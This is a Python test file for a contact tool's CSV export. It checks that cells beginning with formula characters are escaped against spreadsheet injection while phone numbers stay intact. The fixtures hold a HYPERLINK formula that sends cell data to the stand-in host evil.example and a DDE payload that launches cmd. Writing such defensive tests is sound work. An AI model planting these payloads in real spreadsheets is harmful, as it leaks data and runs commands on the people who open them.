"""Issue 11, item 8: a CSV export is opened in spreadsheets, so no cell may run as a formula
(OWASP: a `'` before a cell starting with `= + - @`, a tab or a CR), while a phone number
stays as it is and an export still imports back unchanged."""

from __future__ import annotations

import csv
import io
import json

from conftest import Vault
from hypothesis import given, settings
from hypothesis import strategies as st

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def person(company: str, role: str = "Engineer") -> str:
    return (
        "---\ntie: 3\nphone: \"+49 30 1234567\"\nconsent:\n  share-contact: yes\n"
        f"company: {json.dumps(company)}\nrole: {json.dumps(role)}\n---\n"
    )


def test_formula_cells_are_quoted_and_phone_numbers_left_alone(vault: Vault) -> None:
    vault.write("people/Ada Okafor.md", person(HYPERLINK))
    vault.write("people/@SUM(1+1).md", person("-2+3", role="+cmd|' /C calc'!A0"))
    result = vault.run("export", "csv")
    assert result.exit_code == 0, result.output
    rows = {row["Path"].lstrip("'"): row for row in csv.DictReader(io.StringIO(result.stdout))}
    ada, sum_row = rows["people/Ada Okafor.md"], rows["people/@SUM(1+1).md"]
    assert ada["Organization 1 - Name"] == "'" + HYPERLINK
    assert ada["Phone 1 - Value"] == "+49 30 1234567"
    assert sum_row["Name"] == "'@SUM(1+1)"
    assert sum_row["Organization 1 - Name"] == "'-2+3"
    assert sum_row["Organization 1 - Title"] == "'+cmd|' /C calc'!A0"
    for row in rows.values():
        for column, cell in row.items():
            if column != "Phone 1 - Value":
                assert not cell.startswith(FORMULA_STARTS), (column, cell)


def test_an_escaped_export_imports_back_unchanged(vault: Vault) -> None:
    vault.write("people/Ada Okafor.md", person(HYPERLINK))
    vault.write("people/@SUM(1+1).md", person("'=already quoted"))
    out = vault.root.parent / "contacts.csv"
    assert vault.run("export", "csv", "--out", str(out)).exit_code == 0
    again = Vault(vault.root.parent / "again")
    result = again.run("import", "google", str(out))
    assert result.exit_code == 0, result.output
    shown = {c["name"]: c for c in again.json("list")["contacts"]}
    assert set(shown) == {"Ada Okafor", "@SUM(1+1)"}
    assert shown["Ada Okafor"]["company"] == HYPERLINK
    assert shown["@SUM(1+1)"]["company"] == "'=already quoted"


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r a1(). /"), max_size=12))
def test_escape_then_unescape_is_the_identity(cell: str) -> None:
    from netvault.spreadsheet import escape_cell, unescape_cell

    escaped = escape_cell(cell)
    assert unescape_cell(escaped) == cell
    assert not escaped.startswith(FORMULA_STARTS) or (
        escaped == cell and sum(ch.isdigit() for ch in cell) >= 7
    )
